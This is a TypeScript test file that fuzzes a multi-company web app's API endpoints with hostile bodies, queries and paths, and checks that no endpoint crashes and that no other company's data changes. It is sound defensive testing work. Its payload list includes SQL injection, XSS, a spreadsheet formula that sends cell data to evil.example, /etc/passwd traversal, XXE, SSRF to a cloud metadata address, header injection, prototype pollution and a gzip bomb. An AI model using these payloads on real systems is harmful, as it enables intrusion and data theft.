import { gzipSync } from "node:zlib";
import { sql } from "kysely";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Endpoint } from "#contract/endpoint.ts";
import { GROUPS } from "#contract/endpoint.ts";
import { resetDemo } from "#features/companies/contract.ts";
import { listUploads } from "#features/invoices/contract.ts";
import { ENDPOINTS } from "../../src/main/endpoints.ts";
import type { Browser } from "../support/browser.ts";
import { ACME, BAY } from "../support/intuit.ts";
import { appOfFile, NO_CALLER_LIMITS, type TestApp } from "../support/start-app.ts";
import { setGroups } from "../support/members.ts";
import { uploadRows } from "../support/uploads.ts";
import { invoiceLine } from "../support/workbooks.ts";
import { makeSample, toSchema } from "./sample-endpoints.ts";
import { callName, expectProblem, samplePath } from "./walk-endpoints.ts";

/**
 * Each endpoint gets bodies, queries and paths that no page sends, from the company's admin with all groups: nothing fails,
 * refusals are sentences, and nothing of another company changes.
 */
const OWNER = "owner@acme.example";
const STRANGER = "platform@dockside.example";

const app = appOfFile({ worker: "labels", limits: { ...NO_CALLER_LIMITS, signInsPerMinute: 1_000_000 } });

const counts = new Map<number, number>();
let before: Record<string, string> = {};
let actions: unknown[] = [];

beforeAll(async () => {
  const stranger = await app().owner(BAY, STRANGER);
  await uploadRows(stranger, BAY, [invoiceLine("B-1")]);
  await app().settle();
  before = await digestBay(app());
  actions = await listActions();
});

/** Texts that do something where they are not taken as texts. */
const HOSTILE_TEXTS = {
  SQL: "'; delete from company; --",
  HTML: "<img src=x onerror=alert(1)><script>alert(1)</script>",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "a path": "../../../../etc/passwd",
  "a header": "x\r\nSet-Cookie: evil=1\r\n\r\n<html>",
  "a template": "${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
  "an address": "http://169.254.169.254/latest/meta-data/",
  "a long text": "x".repeat(100_000),
  "the other direction": "abc\u202ecod.exe",
};

const MORE_FIELDS = {
  id: "00000000-0000-4000-8000-000000000001",
  realm_id: BAY,
  realmId: BAY,
  user_id: 1,
  groups: GROUPS,
  role: "admin",
  is_admin: true,
  company: { realm_id: BAY },
};

type Body = { type: string; bytes: string | Uint8Array<ArrayBuffer>; encoding?: string };

/** The bodies of an endpoint, each with its name. */
function listBodies(endpoint: Endpoint): Record<string, Body> {
  const sample = endpoint.body ? makeSample(toSchema(endpoint.body)) : {};
  const good = JSON.stringify(sample);
  const json = (bytes: Body["bytes"]): Body => ({ type: "application/json", bytes });
  // Operators may change what is of any company.
  const forOperators = endpoint.path.startsWith("/api/v1/admin/") ? { realm_id: ACME } : {};
  const each = (value: unknown) => json(JSON.stringify(replaceLeaves(sample, value)));
  const more = (fields: string) => json(good.replace(/^\{/, `{${fields}${good === "{}" ? "" : ","}`));
  return {
    "no content": json(""),
    "half a document": json(good.slice(0, -1)),
    null: json("null"),
    "a list": json("[]"),
    "a text": json('"text"'),
    "a number without end": json("1e999"),
    "a mark before it": json(`\ufeff${good}`),
    "UTF-16": json(new Uint8Array(Buffer.from(good, "utf16le"))),
    "bytes that aren't text": json(new Uint8Array([...Buffer.from(good), 0xff, 0xfe, 0x80])),
    "only null": each(null),
    "only lists": each([]),
    "only objects": each({}),
    "only numbers": each(-1e308),
    "only true": each(true),
    ...Object.fromEntries(Object.entries(HOSTILE_TEXTS).map(([name, text]) => [name, each(text)])),
    "fields of others": json(JSON.stringify({ ...(sample as object), ...MORE_FIELDS, ...forOperators })),
    "the prototype": more('"__proto__":{"is_admin":true}'),
    "the constructor": more('"constructor":{"prototype":{"is_admin":true}}'),
    "each name twice": json(good.replace(/\}$/, good === "{}" ? "}" : `,${good.slice(1)}`)),
    "compressed content": {
      type: "application/json",
      bytes: new Uint8Array(gzipSync(`{"a":"${"0".repeat(10_000_000)}"}`)),
      encoding: "gzip",
    },
    XML: {
      type: "application/xml",
      bytes: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    },
  };
}

function replaceLeaves(value: unknown, leaf: unknown): unknown {
  if (Array.isArray(value)) return value.map((each) => replaceLeaves(each, leaf));
  if (typeof value !== "object" || value === null) return leaf;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replaceLeaves(each, leaf)]));
}

/** The addresses of an endpoint, each with its name: what queries and paths may say, too. */
function listAddresses(endpoint: Endpoint): Record<string, string> {
  const good = samplePath(endpoint, ACME);
  const names = Object.keys(endpoint.query?.shape ?? {}).filter((name) => name !== "realm_id");
  const all = (value: string) =>
    `${good}${names.map((name) => `&${name}=${encodeURIComponent(value)}`).join("")}`;
  return {
    "a query of lists": `${good}${names.map((name) => `&${name}=1&${name}=2`).join("")}&realm_id[]=${BAY}`,
    "a query of objects": `${good}${names.map((name) => `&${name}[a]=1`).join("")}&__proto__[a]=1`,
    "a number in the query": all("-9".repeat(40)),
    "NUL in the query": all("\u0000"),
    ...Object.fromEntries(
      Object.entries(HOSTILE_TEXTS).map(([name, text]) => [
        `${name} in the query`,
        all(text.slice(0, 5_000)),
      ]),
    ),
    ...Object.fromEntries(
      Object.entries({ ...HOSTILE_TEXTS, NUL: "\u0000", dots: ".." }).map(([name, text]) => [
        `${name} in the path`,
        endpoint.path.replaceAll(/:(\w+)/g, () => encodeURIComponent(text.slice(0, 5_000))) +
          `?realm_id=${ACME}`,
      ]),
    ),
  };
}

test.each(
  ENDPOINTS.filter((endpoint) => endpoint !== resetDemo).map(
    (endpoint) => [callName(endpoint), endpoint] as const,
  ),
)("UO-16 %s takes no harm from hostile bodies and addresses", (_name, endpoint) => attack(endpoint));

async function attack(endpoint: Endpoint): Promise<void> {
  const browser = await app().owner(ACME, OWNER);
  mayBeOut = false;
  await setGroups(app().db, GROUPS);
  const addresses = Object.entries(listAddresses(endpoint));
  for (const [name, path] of addresses) await send({ browser, endpoint, name, path });
  if (endpoint.method === "GET") return;
  const path = samplePath(endpoint, ACME);
  for (const [name, body] of Object.entries(listBodies(endpoint))) {
    await send({ browser, endpoint, name, path, body });
    if (endpoint.file)
      await send({ browser, endpoint, name: `${name}, in a form`, path, body, isForm: true });
  }
}

type Sent = {
  browser: Browser;
  endpoint: Endpoint;
  name: string;
  path: string;
  body?: Body;
  isForm?: boolean;
};

async function send({ browser, endpoint, name, path, body, isForm = false }: Sent): Promise<void> {
  if (endpoint.method !== "GET" && mayBeOut) await renew(browser);
  const stop = new AbortController();
  const response = await app().clock.during(
    fetch(new URL(path, app().url), {
      method: endpoint.method,
      redirect: "manual",
      signal: stop.signal,
      headers: {
        cookie: [...browser.cookies].map((pair) => pair.join("=")).join("; "),
        origin: app().url,
        // A kept connection that waits between slow calls is closed.
        connection: "close",
        ...(body && !isForm && { "content-type": body.type }),
        ...(body?.encoding && { "content-encoding": body.encoding }),
      },
      ...(body && { body: isForm && endpoint.file ? makeForm(endpoint.file.field, body) : body.bytes }),
    }).catch((cause: unknown) => {
      throw new Error(`${name}: no answer`, { cause });
    }),
  );
  counts.set(response.status, (counts.get(response.status) ?? 0) + 1);
  mayBeOut = response.status < 400 || response.status === 401 || response.status === 403;
  const what = `${name}: ${response.status}`;
  expect(response.status, what).toBeLessThan(500);
  expect(response.headers.get("access-control-allow-origin"), what).toBeNull();
  expect(response.headers.getSetCookie().join("\n"), what).not.toContain("evil");
  if (response.status >= 400) expectProblem(response.headers, await response.text());
  // A stream of events has no end.
  else stop.abort();
}

/** Whether the last call may have ended the session or the membership; one that was refused for its content has not. */
let mayBeOut = true;

/** Signs in and connects again where a call ended the session or the membership. */
async function renew(browser: Browser): Promise<void> {
  const { status } = await browser.call(listUploads, { query: { realm_id: ACME } });
  if (status === 200) return;
  await browser.signIn(OWNER);
  await browser.connect(OWNER, ACME);
  await setGroups(app().db, GROUPS);
}

function makeForm(field: string, { bytes }: Body): FormData {
  const form = new FormData();
  form.set("body", typeof bytes === "string" ? bytes : Buffer.from(bytes).toString("latin1"));
  form.set(field, new Blob([bytes]), "../../sample.xlsx");
  return form;
}

/** Lists the actions in the other company. */
const listActions = async () =>
  (
    await sql`select action, user_id, ids, after from audit_entry where realm_id = ${BAY} order by at, action`.execute(
      app().db,
    )
  ).rows;

/** A digest of every row that is the other company's. */
async function digestBay({ db }: TestApp): Promise<Record<string, string>> {
  const { rows: tables } = await sql<{ name: string }>`select c.oid::regclass::text as name from pg_class c
    join pg_attribute a on a.attrelid = c.oid and a.attname = 'realm_id'
    where c.relkind = 'r' and relnamespace = 'public'::regnamespace`.execute(db);
  const digests: Record<string, string> = {};
  for (const { name } of tables) {
    const { rows } = await sql<{ digest: string }>`select count(*) || ' ' ||
      md5(coalesce(string_agg(t::text, ',' order by t::text), '')) as digest from ${sql.raw(name)} t
      where realm_id = ${BAY}`.execute(db);
    digests[name] = rows[0]?.digest ?? "";
  }
  return digests;
}

afterAll(async () => {
  const all = [...counts.values()].reduce((sum, count) => sum + count, 0);
  const list = [...counts].toSorted(([a], [b]) => a - b).map(([status, count]) => `${count} × ${status}`);
  process.stdout.write(`Hostile bodies: ${all} calls of ${ENDPOINTS.length} endpoints: ${list.join(", ")}\n`);
});

test("UO-16 after all of them the other company is as it was, and no failure of ours was recorded", async () => {
  expect((await fetch(new URL("/healthz", app().url))).status).toBe(200);
  // Compared first, because it says who did what.
  expect(await listActions()).toEqual(actions);
  expect(await digestBay(app())).toEqual(before);
  const { rows } = await sql`select title, place from error_report where source = 'server'`.execute(app().db);
  expect(rows).toEqual([]);
});

// Last: it makes all companies of the demo new, and connects them.
test("UO-16 the reset of the demo takes no harm from hostile bodies and addresses", () => attack(resetDemo));
